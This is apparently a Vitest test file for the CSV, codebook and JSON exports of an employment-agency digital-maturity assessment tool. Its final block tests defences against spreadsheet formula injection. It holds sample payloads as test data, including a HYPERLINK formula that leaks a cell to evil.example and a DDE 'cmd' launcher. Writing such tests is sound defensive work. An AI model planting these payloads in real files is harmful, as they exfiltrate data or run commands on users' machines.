import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { allItems, DIMENSION_IDS } from "@/lib/questionnaire/lookup";
import { answersAll } from "@/lib/scoring/fixtures";
import { scoreAssessment } from "@/lib/scoring/score-assessment";
import { codebookRows, toCodebookCsv } from "./codebook";
import { exportColumns } from "./columns";
import { toAssessmentsCsv, toCsvRow, UTF8_BOM } from "./csv-rows";
import { toAssessmentsJson } from "./json-export";
import type { ExportRecord } from "./types";

const multi = allItems.find((item) => item.kind === "multi" && item.allowOther)!;
const answers = { ...answersAll(2), [multi.id]: { value: ["other", (multi as { options: readonly string[] }).options[0]!], otherText: "Ferias de empleo, \"móviles\"" } };
const record: ExportRecord = {
  id: "a1",
  agencyName: "กรมการจัดหางาน",
  countryCode: "TH",
  region: "AP",
  round: 2026,
  status: "APPROVED",
  instrumentVersion: "2026.1",
  submittedAt: new Date("2026-03-01T10:00:00Z"),
  approvedAt: null,
  answers,
  scores: scoreAssessment(answers, []),
};
const draft: ExportRecord = { ...record, id: "a2", status: "DRAFT", answers: {}, scores: null, submittedAt: null };

describe("assessments CSV", () => {
  it("has a column per item, per other text, per dimension score and stage, and the indices", () => {
    const keys = exportColumns().map((c) => c.key);
    for (const item of allItems) expect(keys).toContain(item.id);
    expect(keys).toContain(`${multi.id}.other_text`);
    for (const d of DIMENSION_IDS) expect(keys).toEqual(expect.arrayContaining([`score.${d}`, `stage.${d}`]));
    expect(keys).toEqual(expect.arrayContaining(["index.digital_maturity", "index.youth_readiness"]));
    expect(new Set(keys).size).toBe(keys.length);
  });

  it("writes multi answers as ;-joined option ids with the other text in its own column, and rounded scores", () => {
    const row = toCsvRow(record);
    expect(row[multi.id]).toBe(`other;${(multi as { options: readonly string[] }).options[0]}`);
    expect(row[`${multi.id}.other_text`]).toBe("Ferias de empleo, \"móviles\"");
    // Every scored item answered with 2 points of 3: 66.67, stage advanced.
    expect(row["score.strategy"]).toBe(66.67);
    expect(row["stage.strategy"]).toBe("advanced");
    expect(row["index.digital_maturity"]).toBe(66.67);
    expect(row.submitted_at).toBe("2026-03-01T10:00:00.000Z");
  });

  it("leaves unanswered and unscored cells empty, never 0", () => {
    const row = toCsvRow(draft);
    expect(row["score.strategy"]).toBe("");
    expect(row["index.youth_readiness"]).toBe("");
    expect(row[allItems[0]!.id]).toBe("");
  });

  it("round-trips through a CSV parser with a BOM, non-Latin names and quoted commas", () => {
    const csv = toAssessmentsCsv([record, draft]);
    expect(csv.startsWith(UTF8_BOM)).toBe(true);
    const parsed = Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toHaveLength(2);
    expect(parsed.data[0]!.agency_name).toBe("กรมการจัดหางาน");
    expect(parsed.data[0]![`${multi.id}.other_text`]).toBe("Ferias de empleo, \"móviles\"");
    expect(parsed.meta.fields).toEqual(exportColumns().map((c) => c.key));
  });
});

describe("codebook", () => {
  it("describes every column of the CSV, in order, with English labels and values", () => {
    const rows = codebookRows();
    expect(rows.map((r) => r.column)).toEqual(exportColumns().map((c) => c.key));
    const national = rows.find((r) => r.column === "strategy.national")!;
    expect(national.description).toBe("There is a national (whole-of-government) digital strategy that covers the PES.");
    expect(national.values).toContain("fully_in_place = Yes, fully in place");
    for (const row of rows) expect(row.description).not.toMatch(/^items\./);
    expect(toCodebookCsv().startsWith(UTF8_BOM)).toBe(true);
  });
});

describe("JSON export", () => {
  it("keeps answers as stored and scores at full precision", () => {
    const json = toAssessmentsJson([record], new Date("2026-04-01T00:00:00Z"));
    expect(json.count).toBe(1);
    expect(json.assessments[0]!.agency.name).toBe("กรมการจัดหางาน");
    expect(json.assessments[0]!.scores!.dimensions.strategy).toEqual({ score: 200 / 3, stage: "advanced", status: "scored" });
  });
});

describe("formula injection (issue 11, finding 1)", () => {
  const payload = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")';
  const text = allItems.find((item) => item.kind === "text")!;

  it.each([
    payload,
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    `${payload}\nsecond line`,
    "＝1+1",
  ])("writes %j as text, with a leading apostrophe", (comment) => {
    const evil: ExportRecord = { ...record, agencyName: comment, answers: { ...record.answers, [text.id]: { value: comment } } };
    const [row] = Papa.parse<Record<string, string>>(toAssessmentsCsv([evil]).slice(1), { header: true }).data;
    expect(row![text.id]).toBe(`'${comment}`);
    expect(row!.agency_name).toBe(`'${comment}`);
  });

  it("leaves numbers alone, including negative ones, and ordinary text", () => {
    const [row] = Papa.parse<Record<string, string>>(toAssessmentsCsv([record]).slice(1), { header: true }).data;
    expect(row!.agency_name).toBe("กรมการจัดหางาน");
    expect(row!.round).toBe("2026");
  });

  it("the codebook says so for every free-text column", () => {
    const textRows = codebookRows().filter((row) => row.type === "free text");
    expect(textRows.length).toBeGreaterThan(0);
    for (const row of textRows) expect(row.values).toContain("leading apostrophe");
  });
});
